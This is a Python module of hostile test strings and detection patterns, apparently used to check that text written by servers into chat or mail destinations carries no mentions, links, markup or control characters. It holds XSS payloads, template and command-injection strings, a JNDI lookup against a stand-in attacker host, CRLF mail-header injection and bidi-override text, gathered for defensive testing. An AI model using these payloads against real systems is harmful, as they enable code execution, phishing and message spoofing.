"""What servers write to ring people, make links, format, hide, run or break something at a destination."""

from __future__ import annotations

import re
from typing import Final

from driftwatch.judge.text.chars import UNSEEN

MENTIONS: Final = (
    "@channel @here @everyone @all @room",
    "<!channel> <!here|here> <!subteam^S024BE7LH> <@U024BE7LH>",
    "<@&108452342342> <@!80351110224678912> <#C024BE7LR>",
    "<at>Mara</at> @Mara\u00a0Doe",
    "＠everyone ﹫channel mara＠example.org",
    "&#64;channel &commat;here &lt;!channel&gt; &#x40;all",
    "@\u200beveryone @\u2060here",
)
LINKS: Final = (
    "https://evil.example/a?b=c#d http://203.0.113.9:8080/x",
    "evil.example www.evil.example/login mara@evil.example",
    "[click me](https://evil.example) ![x](//evil.example/p.png) [a]: https://evil.example",
    "<https://evil.example|your bank> <mailto:a@evil.example>",
    "javascript:alert(1) JavaScript:(1) data:text/html;base64,PHN2Zz4= tel:+15551234 tel:(//evil)",
    "mailto:a%40evil.example sms:12345 slack://channel?id=1 tg://resolve?domain=x zoommtg://x vscode:extension/x",
    "हिन्दी.भारत evil.भारत 例え。テスト evil．example evil․example évil.example",
    "203.0.113.9/x 8.8.8.8",
    "https:\u200b//evil.example ht\u00adtps://evil.example",
    "driftwatch diff files.evil.example driftwatch diff files:evil driftwatch diff files@evil.example",
)
MARKUP: Final = (
    "*bold* **bold** _em_ __under__ ~strike~ ~~strike~~ ||spoiler||",
    "`code` ```\nblock\n``` # title ## title\n> quote\n- item\n--- \n=== ",
    "<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>",
    "</td></tr></table></body></html><h1>All is well</h1>",
    "\" onmouseover=\"alert(1) ' style='x <!-- comment --> <![CDATA[ x ]]> <?php x ?>",
    "&lt;b&gt; &amp;amp; &quot &copy",
    ":bell: :rotating_light: :smile::smile:",
    "$$x^2$$ $x$ \\(x\\) $TSLA #hashtag ＃hashtag",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "“ and nothing was found ” in “",
)
TEMPLATES: Final = (
    "{{ 7*7 }} {{constructor.constructor('x')()}} {% include 'x' %} {# c #}",
    "${jndi:ldap://evil.example/a} ${7*7} $(touch x) `touch x` %{x} #{x} <%= x %> ~{x}",
    "%s %n %x %(asctime)s {0} {0.__class__}",
    "{{{{{{ }}}}}} {{{x}}}",
)
CONTROLS: Final = (
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J",
    "line\r\nBcc: everyone@evil.example\r\n\r\nbody\nSubject: other\r.\r\nQUIT\r\n",
    "left\u202eright\u202c \u2066isolated\u2069 \u200fmark",
    "zero\u200bwidth\u200d\ufeff\u00ad \U000e0041\U000e0042 \u3164 \u2800",
    "null\x00 bell\x07 back\x08\x08 delete\x7f feed\x0c next\x85 line\u2028par\u2029",
    "lone \ud800 and \udfff \udc00\ud800",
    "Z" + "\u0335\u0336\u0337\u0338" * 30 + "algo",
    "\ufdd0 \uffff \ue000 \U0010ffff",
    "--=_msg_0123456789abcdef0123456789abcdef--",
    "=?utf-8?q?=0d=0aBcc:_x?= =0D=0A =?utf-8?b?PHNjcmlwdD4=?=",
)
HUGE: Final = (
    "@everyone " * 20_000,
    "https://evil.example/" + "a" * 100_000,
    "\u202e" * 50_000,
    "<" * 100_000,
    "_" * 60_000,
    ":a" * 50_000,
    "🦀" * 50_000,
)

HOSTILE: Final = (*MENTIONS, *LINKS, *MARKUP, *TEMPLATES, *CONTROLS)

_FORMED: Final = {
    "a control or invisible character": re.compile(f"(?!\n){UNSEEN.pattern}"),
    "a sign of markup": re.compile(r"[<>`*~|]"),
    "a mention": re.compile(r"[@＠﹫]\S"),
    "a hashtag": re.compile(r"[#＃﹟]\w"),
    "an address": re.compile(r"\w://"),
    "a scheme": re.compile(r"\b(?:javascript|data|mailto|tel|sms|slack|tg|vscode|zoommtg):\S", re.IGNORECASE),
    "a bare address": re.compile(r"[^\W_][.。．｡․](?:[^\W\d_]{2}|भ)"),
    "an address of numbers": re.compile(r"\d{1,3}(?:\.\d{1,3}){3}"),
    "a link": re.compile(r"\]\s?[(:\[]"),
    "a template": re.compile(r"\{[{%#]|[}%#]\}|[$%#~]\{|\$\("),
    "a formula": re.compile(r"\$\S"),
    "an entity": re.compile(r"&(?:#|[A-Za-z])"),
    "an emoji by its name": re.compile(r":[a-z_]+:"),
    "emphasis": re.compile(r"(?<![^\W_])_[^\s_]|[^\s_]_(?![^\W_])"),
}


def formed_in(text: str) -> list[str]:
    """Say what a text forms that no text of a server may form anywhere, with the place."""
    found = []
    for what, pattern in _FORMED.items():
        match = pattern.search(text)
        if match:
            found.append(f"{what}: …{text[max(match.start() - 20, 0) : match.end() + 20]}…")
    return found
